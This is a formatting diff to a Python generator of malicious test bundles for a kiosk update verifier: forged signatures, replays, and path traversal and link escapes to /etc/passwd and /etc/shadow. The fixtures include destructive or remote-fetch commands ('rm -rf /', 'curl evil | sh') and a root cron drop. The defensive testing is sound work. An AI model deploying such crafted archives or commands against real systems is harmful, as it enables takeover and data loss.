@@ -59,7 +59,9 @@ def tar_bytes(members: list[tuple[tarfile.TarInfo, bytes | None]], gz: bool = Tr
     return gzip.compress(raw.getvalue(), mtime=0) if gz else raw.getvalue()
 
 
-def ti(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", mode: int = 0o644) -> tarfile.TarInfo:
+def ti(
+    name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", mode: int = 0o644
+) -> tarfile.TarInfo:
     info = tarfile.TarInfo(name)
     info.type = kind
     info.linkname = linkname
@@ -76,14 +78,29 @@ def release_members(version: str = "1.1.0") -> list[tuple[tarfile.TarInfo, bytes
     ]
 
 
-def manifest(payloads: dict[str, tuple[str, bytes]], *, version: str = "1.1.0", counter: int = 10,
-             unpacked: int | None = None, **extra: Any) -> dict[str, Any]:
+def manifest(
+    payloads: dict[str, tuple[str, bytes]],
+    *,
+    version: str = "1.1.0",
+    counter: int = 10,
+    unpacked: int | None = None,
+    **extra: Any,
+) -> dict[str, Any]:
     doc: dict[str, Any] = {
-        "format": 1, "product": "care-terminal", "version": version, "counter": counter,
-        "created": "2026-05-01T10:00:00+08:00", "boards": {BOARD: [REVISION]},
+        "format": 1,
+        "product": "care-terminal",
+        "version": version,
+        "counter": counter,
+        "created": "2026-05-01T10:00:00+08:00",
+        "boards": {BOARD: [REVISION]},
         "payloads": [
-            {"name": name, "role": role, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data),
-             "unpacked_size": unpacked if unpacked is not None else 1 << 20}
+            {
+                "name": name,
+                "role": role,
+                "sha256": hashlib.sha256(data).hexdigest(),
+                "size": len(data),
+                "unpacked_size": unpacked if unpacked is not None else 1 << 20,
+            }
             for name, (role, data) in payloads.items()
         ],
     }
@@ -95,10 +112,18 @@ def encode(doc: dict[str, Any]) -> bytes:
     return json.dumps(doc, sort_keys=True, indent=1).encode()
 
 
-def assemble(ctx: Ctx, name: str, *, raw: bytes | None, sig: bytes | None,
-             files: list[tuple[str, bytes]], trailing: bytes = b"") -> Path:
+def assemble(
+    ctx: Ctx,
+    name: str,
+    *,
+    raw: bytes | None,
+    sig: bytes | None,
+    files: list[tuple[str, bytes]],
+    trailing: bytes = b"",
+) -> Path:
     entries: list[tuple[str, bytes | Path]] = [
-        (swu.SW_DESCRIPTION, swu.sw_description(ctx.swu_version, {BOARD: [REVISION]}))]
+        (swu.SW_DESCRIPTION, swu.sw_description(ctx.swu_version, {BOARD: [REVISION]}))
+    ]
     if raw is not None:
         entries.append(("manifest.json", raw))
     if sig is not None:
@@ -112,9 +137,17 @@ def assemble(ctx: Ctx, name: str, *, raw: bytes | None, sig: bytes | None,
     return dest
 
 
-def signed(ctx: Ctx, name: str, files: dict[str, tuple[str, bytes]], *, key: Ed25519PrivateKey | None = None,
-           key_id: str = "test", mutate: Callable[[dict[str, Any]], None] | None = None,
-           ship: list[tuple[str, bytes]] | None = None, **mkw: Any) -> Path:
+def signed(
+    ctx: Ctx,
+    name: str,
+    files: dict[str, tuple[str, bytes]],
+    *,
+    key: Ed25519PrivateKey | None = None,
+    key_id: str = "test",
+    mutate: Callable[[dict[str, Any]], None] | None = None,
+    ship: list[tuple[str, bytes]] | None = None,
+    **mkw: Any,
+) -> Path:
     doc = manifest(files, **mkw)
     if mutate:
         mutate(doc)
@@ -138,15 +171,22 @@ def _bad_sig(ctx: Ctx) -> Path:
     s = bytearray(__import__("base64").b64decode(sig["sig"]))
     s[5] ^= 0x01
     sig["sig"] = __import__("base64").b64encode(bytes(s)).decode()
-    return assemble(ctx, "bad-sig", raw=raw, sig=json.dumps(sig).encode(), files=[("app.tar.gz", tar)])
+    return assemble(
+        ctx, "bad-sig", raw=raw, sig=json.dumps(sig).encode(), files=[("app.tar.gz", tar)]
+    )
 
 
 def _tampered_manifest(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
     raw = encode(manifest({"app.tar.gz": ("app", tar)}))
     sig = sign_manifest(raw, ctx.key, "test")
-    return assemble(ctx, "tampered-manifest", raw=raw.replace(b'"1.1.0"', b'"9.9.9"'), sig=sig,
-                    files=[("app.tar.gz", tar)])
+    return assemble(
+        ctx,
+        "tampered-manifest",
+        raw=raw.replace(b'"1.1.0"', b'"9.9.9"'),
+        sig=sig,
+        files=[("app.tar.gz", tar)],
+    )
 
 
 def _forged_key_id(ctx: Ctx) -> Path:
@@ -159,8 +199,13 @@ def _unknown_key(ctx: Ctx) -> Path:
 
 def _no_sig(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
-    return assemble(ctx, "no-sig", raw=encode(manifest({"app.tar.gz": ("app", tar)})), sig=None,
-                    files=[("app.tar.gz", tar)])
+    return assemble(
+        ctx,
+        "no-sig",
+        raw=encode(manifest({"app.tar.gz": ("app", tar)})),
+        sig=None,
+        files=[("app.tar.gz", tar)],
+    )
 
 
 def _no_manifest(ctx: Ctx) -> Path:
@@ -169,18 +214,30 @@ def _no_manifest(ctx: Ctx) -> Path:
 
 def _sig_garbage(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
-    return assemble(ctx, "sig-garbage", raw=encode(manifest({"app.tar.gz": ("app", tar)})),
-                    sig=b"\x00\xffnot json", files=[("app.tar.gz", tar)])
+    return assemble(
+        ctx,
+        "sig-garbage",
+        raw=encode(manifest({"app.tar.gz": ("app", tar)})),
+        sig=b"\x00\xffnot json",
+        files=[("app.tar.gz", tar)],
+    )
 
 
 def _signed_garbage(ctx: Ctx) -> Path:
     raw = b"this is not json {"
-    return assemble(ctx, "signed-garbage", raw=raw, sig=sign_manifest(raw, ctx.key, "test"),
-                    files=[("app.tar.gz", ctx.app_tar())])
+    return assemble(
+        ctx,
+        "signed-garbage",
+        raw=raw,
+        sig=sign_manifest(raw, ctx.key, "test"),
+        files=[("app.tar.gz", ctx.app_tar())],
+    )
 
 
 def _unknown_field(ctx: Ctx) -> Path:
-    return app_only(ctx, "unknown-field", ctx.app_tar(), mutate=lambda d: d.update(run_as_root=True))
+    return app_only(
+        ctx, "unknown-field", ctx.app_tar(), mutate=lambda d: d.update(run_as_root=True)
+    )
 
 
 def _no_app(ctx: Ctx) -> Path:
@@ -189,15 +246,21 @@ def _no_app(ctx: Ctx) -> Path:
 
 
 def _wrong_product(ctx: Ctx) -> Path:
-    return app_only(ctx, "wrong-product", ctx.app_tar(), mutate=lambda d: d.update(product="other-kiosk"))
+    return app_only(
+        ctx, "wrong-product", ctx.app_tar(), mutate=lambda d: d.update(product="other-kiosk")
+    )
 
 
 def _wrong_board(ctx: Ctx) -> Path:
-    return app_only(ctx, "wrong-board", ctx.app_tar(), mutate=lambda d: d.update(boards={"pi-zero": ["1"]}))
+    return app_only(
+        ctx, "wrong-board", ctx.app_tar(), mutate=lambda d: d.update(boards={"pi-zero": ["1"]})
+    )
 
 
 def _wrong_revision(ctx: Ctx) -> Path:
-    return app_only(ctx, "wrong-revision", ctx.app_tar(), mutate=lambda d: d.update(boards={BOARD: ["7"]}))
+    return app_only(
+        ctx, "wrong-revision", ctx.app_tar(), mutate=lambda d: d.update(boards={BOARD: ["7"]})
+    )
 
 
 def _downgrade(ctx: Ctx) -> Path:
@@ -210,8 +273,9 @@ def _replay_old(ctx: Ctx) -> Path:
 
 
 def _replay_same_counter(ctx: Ctx) -> Path:
-    return app_only(ctx, "replay-same-counter", ctx.app_tar("1.2.0"), version="1.2.0",
-                    counter=INSTALLED_COUNTER)
+    return app_only(
+        ctx, "replay-same-counter", ctx.app_tar("1.2.0"), version="1.2.0", counter=INSTALLED_COUNTER
+    )
 
 
 def _bad_version(ctx: Ctx) -> Path:
@@ -222,7 +286,9 @@ def _tampered_payload(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
     bad = bytearray(tar)
     bad[len(bad) // 2] ^= 0xFF
-    return signed(ctx, "tampered-payload", {"app.tar.gz": ("app", tar)}, ship=[("app.tar.gz", bytes(bad))])
+    return signed(
+        ctx, "tampered-payload", {"app.tar.gz": ("app", tar)}, ship=[("app.tar.gz", bytes(bad))]
+    )
 
 
 def _wrong_hash(ctx: Ctx) -> Path:
@@ -243,7 +309,9 @@ def _truncated(ctx: Ctx) -> Path:
 
 def _short_payload(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
-    return signed(ctx, "short-payload", {"app.tar.gz": ("app", tar)}, ship=[("app.tar.gz", tar[:-10])])
+    return signed(
+        ctx, "short-payload", {"app.tar.gz": ("app", tar)}, ship=[("app.tar.gz", tar[:-10])]
+    )
 
 
 def _declared_length_wrong(ctx: Ctx) -> Path:
@@ -270,39 +338,66 @@ def _gzip_bomb(ctx: Ctx) -> Path:
 
 def _unlisted_file(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
-    return signed(ctx, "unlisted", {"app.tar.gz": ("app", tar)},
-                  ship=[("app.tar.gz", tar), ("postinst.sh", b"#!/bin/sh\nrm -rf /\n")])
+    return signed(
+        ctx,
+        "unlisted",
+        {"app.tar.gz": ("app", tar)},
+        ship=[("app.tar.gz", tar), ("postinst.sh", b"#!/bin/sh\nrm -rf /\n")],
+    )
 
 
 def _missing_file(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
-    return signed(ctx, "missing-file", {"app.tar.gz": ("app", tar), "model-pack.tar.gz": ("model_pack", tar)},
-                  ship=[("app.tar.gz", tar)])
+    return signed(
+        ctx,
+        "missing-file",
+        {"app.tar.gz": ("app", tar), "model-pack.tar.gz": ("model_pack", tar)},
+        ship=[("app.tar.gz", tar)],
+    )
 
 
 def _trailing_garbage(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
     raw = encode(manifest({"app.tar.gz": ("app", tar)}))
-    return assemble(ctx, "trailing", raw=raw, sig=sign_manifest(raw, ctx.key, "test"),
-                    files=[("app.tar.gz", tar)], trailing=b"#!/bin/sh\necho owned\n")
+    return assemble(
+        ctx,
+        "trailing",
+        raw=raw,
+        sig=sign_manifest(raw, ctx.key, "test"),
+        files=[("app.tar.gz", tar)],
+        trailing=b"#!/bin/sh\necho owned\n",
+    )
 
 
 def _cpio_path_name(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
     raw = encode(manifest({"app.tar.gz": ("app", tar)}))
-    return assemble(ctx, "cpio-path", raw=raw, sig=sign_manifest(raw, ctx.key, "test"),
-                    files=[("app.tar.gz", tar), ("../../etc/cron.d/x", b"* * * * * root sh\n")])
+    return assemble(
+        ctx,
+        "cpio-path",
+        raw=raw,
+        sig=sign_manifest(raw, ctx.key, "test"),
+        files=[("app.tar.gz", tar), ("../../etc/cron.d/x", b"* * * * * root sh\n")],
+    )
 
 
 def _cpio_duplicate(ctx: Ctx) -> Path:
     tar = ctx.app_tar()
     raw = encode(manifest({"app.tar.gz": ("app", tar)}))
-    return assemble(ctx, "cpio-dup", raw=raw, sig=sign_manifest(raw, ctx.key, "test"),
-                    files=[("app.tar.gz", tar), ("app.tar.gz", b"second copy")])
+    return assemble(
+        ctx,
+        "cpio-dup",
+        raw=raw,
+        sig=sign_manifest(raw, ctx.key, "test"),
+        files=[("app.tar.gz", tar), ("app.tar.gz", b"second copy")],
+    )
 
 
-def _archive(name: str, extra: list[tuple[tarfile.TarInfo, bytes | None]],
-             first: list[tuple[tarfile.TarInfo, bytes | None]] | None = None) -> Callable[[Ctx], Path]:
+def _archive(
+    name: str,
+    extra: list[tuple[tarfile.TarInfo, bytes | None]],
+    first: list[tuple[tarfile.TarInfo, bytes | None]] | None = None,
+) -> Callable[[Ctx], Path]:
     def build(ctx: Ctx) -> Path:
         members = (first or []) + release_members() + extra
         return app_only(ctx, name, tar_bytes(members))
@@ -316,7 +411,9 @@ def _truncated_tar(ctx: Ctx) -> Path:
 
 
 def _no_release_json(ctx: Ctx) -> Path:
-    return app_only(ctx, "no-release-json", tar_bytes([(ti("bin/kiosk", mode=0o755), b"#!/bin/sh\n")]))
+    return app_only(
+        ctx, "no-release-json", tar_bytes([(ti("bin/kiosk", mode=0o755), b"#!/bin/sh\n")])
+    )
 
 
 def _release_json_mismatch(ctx: Ctx) -> Path:
@@ -325,7 +422,9 @@ def _release_json_mismatch(ctx: Ctx) -> Path:
 
 def _migrate_outside(ctx: Ctx) -> Path:
     rel = {"version": "1.1.0", "migrate": ["/bin/sh", "-c", "curl evil | sh"]}
-    return app_only(ctx, "migrate-outside", tar_bytes([(ti("release.json"), json.dumps(rel).encode())]))
+    return app_only(
+        ctx, "migrate-outside", tar_bytes([(ti("release.json"), json.dumps(rel).encode())])
+    )
 
 
 @dataclass(frozen=True)
@@ -366,25 +465,67 @@ CASES: list[Case] = [
     Case("data after the cpio trailer", "bad_container", _trailing_garbage),
     Case("cpio entry with a path", "bad_container", _cpio_path_name),
     Case("duplicate cpio entry", "bad_container", _cpio_duplicate),
-    Case("path traversal", "unsafe_archive", _archive("traversal", [(ti("../../etc/cron.d/evil"), b"x")])),
-    Case("nested path traversal", "unsafe_archive", _archive("traversal2", [(ti("lib/../../x"), b"x")])),
-    Case("absolute path", "unsafe_archive", _archive("absolute", [(ti("/etc/passwd"), b"root::0:0\n")])),
-    Case("backslash path", "unsafe_archive", _archive("backslash", [(ti("..\\..\\evil.bat"), b"x")])),
-    Case("symlink pointing out", "unsafe_archive",
-         _archive("symlink-out", [(ti("lib/etc", tarfile.SYMTYPE, "../../../../etc"), None)])),
-    Case("absolute symlink", "unsafe_archive",
-         _archive("symlink-abs", [(ti("lib/passwd", tarfile.SYMTYPE, "/etc/passwd"), None)])),
-    Case("write through an internal symlink", "unsafe_archive",
-         _archive("symlink-through", [(ti("data", tarfile.SYMTYPE, "bin"), None), (ti("data/x"), b"x")])),
-    Case("hard link pointing out", "unsafe_archive",
-         _archive("hardlink-out", [(ti("lib/shadow", tarfile.LNKTYPE, "../../etc/shadow"), None)])),
-    Case("hard link to a file not in the archive", "unsafe_archive",
-         _archive("hardlink-absent", [(ti("lib/passwd", tarfile.LNKTYPE, "etc/passwd"), None)])),
-    Case("character device", "unsafe_archive", _archive("chardev", [(ti("dev/mem", tarfile.CHRTYPE), None)])),
-    Case("block device", "unsafe_archive", _archive("blockdev", [(ti("dev/sda", tarfile.BLKTYPE), None)])),
+    Case(
+        "path traversal",
+        "unsafe_archive",
+        _archive("traversal", [(ti("../../etc/cron.d/evil"), b"x")]),
+    ),
+    Case(
+        "nested path traversal",
+        "unsafe_archive",
+        _archive("traversal2", [(ti("lib/../../x"), b"x")]),
+    ),
+    Case(
+        "absolute path",
+        "unsafe_archive",
+        _archive("absolute", [(ti("/etc/passwd"), b"root::0:0\n")]),
+    ),
+    Case(
+        "backslash path", "unsafe_archive", _archive("backslash", [(ti("..\\..\\evil.bat"), b"x")])
+    ),
+    Case(
+        "symlink pointing out",
+        "unsafe_archive",
+        _archive("symlink-out", [(ti("lib/etc", tarfile.SYMTYPE, "../../../../etc"), None)]),
+    ),
+    Case(
+        "absolute symlink",
+        "unsafe_archive",
+        _archive("symlink-abs", [(ti("lib/passwd", tarfile.SYMTYPE, "/etc/passwd"), None)]),
+    ),
+    Case(
+        "write through an internal symlink",
+        "unsafe_archive",
+        _archive(
+            "symlink-through", [(ti("data", tarfile.SYMTYPE, "bin"), None), (ti("data/x"), b"x")]
+        ),
+    ),
+    Case(
+        "hard link pointing out",
+        "unsafe_archive",
+        _archive("hardlink-out", [(ti("lib/shadow", tarfile.LNKTYPE, "../../etc/shadow"), None)]),
+    ),
+    Case(
+        "hard link to a file not in the archive",
+        "unsafe_archive",
+        _archive("hardlink-absent", [(ti("lib/passwd", tarfile.LNKTYPE, "etc/passwd"), None)]),
+    ),
+    Case(
+        "character device",
+        "unsafe_archive",
+        _archive("chardev", [(ti("dev/mem", tarfile.CHRTYPE), None)]),
+    ),
+    Case(
+        "block device",
+        "unsafe_archive",
+        _archive("blockdev", [(ti("dev/sda", tarfile.BLKTYPE), None)]),
+    ),
     Case("FIFO", "unsafe_archive", _archive("fifo", [(ti("run/pipe", tarfile.FIFOTYPE), None)])),
-    Case("duplicate archive member", "unsafe_archive",
-         _archive("dup-member", [(ti("bin/kiosk", mode=0o755), b"#!/bin/sh\nevil\n")])),
+    Case(
+        "duplicate archive member",
+        "unsafe_archive",
+        _archive("dup-member", [(ti("bin/kiosk", mode=0o755), b"#!/bin/sh\nevil\n")]),
+    ),
     Case("truncated archive inside a signed payload", "damaged_archive", _truncated_tar),
     Case("app without release.json", "bad_manifest", _no_release_json),
     Case("release.json names another version", "bad_manifest", _release_json_mismatch),
